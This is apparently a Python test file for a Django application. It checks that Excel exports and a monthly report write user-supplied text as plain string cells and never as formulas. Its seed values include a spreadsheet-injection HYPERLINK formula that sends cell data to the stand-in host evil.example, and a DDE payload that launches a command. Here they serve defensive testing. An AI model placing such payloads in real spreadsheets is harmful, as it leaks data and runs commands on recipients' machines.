"""Issue 16, item 4: every Excel export and the monthly report write stored text as text cells.

Seeded values begin with each character Excel treats as the start of a formula (``=``, ``+``, ``-``,
``@``); each export is opened as a workbook and must hold them verbatim as string cells, with no
formula cell anywhere (``cell.data_type == 'f'``)."""

import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from qianwan.org.choices import Role
from tests.disputes.factories import make_dispute
from tests.incidents.factories import make_incident
from tests.traffic.factories import (
    make_accident,
    make_asset,
    make_joint,
    make_patrol,
    make_zone,
    team_with_members,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")'
PAYLOADS = [FORMULA, "+8613800000000", "-6.5", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_data_only(content: bytes, expected: list[str]) -> None:
    cells = _cells(content)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells in the export: {formulas}"
    texts = {c.value for c in cells if c.data_type == "s"}
    for value in expected:
        assert any(value in t for t in texts), f"{value!r} not written as text"


@pytest.fixture
def seeded(station):
    zone = make_zone()
    team = team_with_members(station)
    make_patrol(zone, team, findings=PAYLOADS[0])
    make_joint(station, organisers=PAYLOADS[1], location=PAYLOADS[0], note=PAYLOADS[3])
    make_accident(station, address=PAYLOADS[0], road=PAYLOADS[2], cause_note=PAYLOADS[3])
    make_asset(name=PAYLOADS[0], road=PAYLOADS[1], note=PAYLOADS[2])
    return zone


@pytest.mark.parametrize("name", ["patrol_list", "joint_list", "accident_list", "asset_list"])
def test_traffic_exports(client, officer, seeded, name):
    client.force_login(officer)
    response = client.get(reverse(f"traffic:{name}") + "?export=xlsx")
    assert response.status_code == 200
    assert_data_only(response.content, [PAYLOADS[0]])


def test_incident_export(client, make_user, station):
    make_incident(station, address=PAYLOADS[0], description=PAYLOADS[2])
    make_incident(station, address=PAYLOADS[3], description=PAYLOADS[1])
    client.force_login(make_user(Role.STATION_LEADER, username="leader-x"))
    response = client.get(reverse("incidents:list") + "?export=xlsx")
    assert response.status_code == 200
    assert_data_only(response.content, PAYLOADS)


def test_dispute_export(client, officer, station):
    make_dispute(station, officer, address=PAYLOADS[0], summary=PAYLOADS[1])
    make_dispute(station, officer, address=PAYLOADS[2], summary=PAYLOADS[3])
    client.force_login(officer)
    response = client.get(reverse("disputes:index") + "?export=xlsx")
    assert response.status_code == 200
    assert_data_only(response.content, PAYLOADS)


def test_hazard_reconciliation_export(client, bureau, station):
    station.name = PAYLOADS[0]
    station.save()
    client.force_login(bureau)
    today = timezone.localdate()
    url = (
        reverse("risks:reconciliation")
        + f"?date_from={today - timedelta(days=30)}&date_to={today}&export=xlsx"
    )
    response = client.get(url)
    assert response.status_code == 200, response.content[:300]
    assert_data_only(response.content, [PAYLOADS[0]])


def test_monthly_report(client, bureau, station, django_capture_on_commit_callbacks):
    from qianwan.dashboard.models import MonthlyReport

    station.name = PAYLOADS[0]
    station.save()
    first = timezone.localdate().replace(day=1)
    prev = first - timedelta(days=1)
    client.force_login(bureau)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("dashboard:report_list"), {"month": f"{prev:%Y-%m}", "station": station.code})
    report = MonthlyReport.objects.get()
    download = client.get(reverse("dashboard:report_download", args=[report.pk]))
    assert download.status_code == 200
    content = b"".join(download.streaming_content)
    cells = _cells(content)
    assert not [c for c in cells if c.data_type == "f"]
    # the report's title begins with the station's name
    assert any(str(c.value).startswith(PAYLOADS[0]) for c in cells), "the seeded name is not in the report"


def test_one_writer_also_for_cells_written_directly():
    """The writer's safety net: a string put with ws.cell() is still text."""
    from openpyxl import Workbook

    from qianwan import xlsx

    wb = Workbook()
    wb.active.cell(row=1, column=1, value=FORMULA)
    xlsx.append(wb.active, PAYLOADS)
    assert_data_only(xlsx.to_bytes(wb), PAYLOADS)
    values = [c.value for c in _cells(xlsx.to_bytes(wb))]
    assert values[:1] == [FORMULA] and "+8613800000000" in values and "-6.5" in values  # unchanged
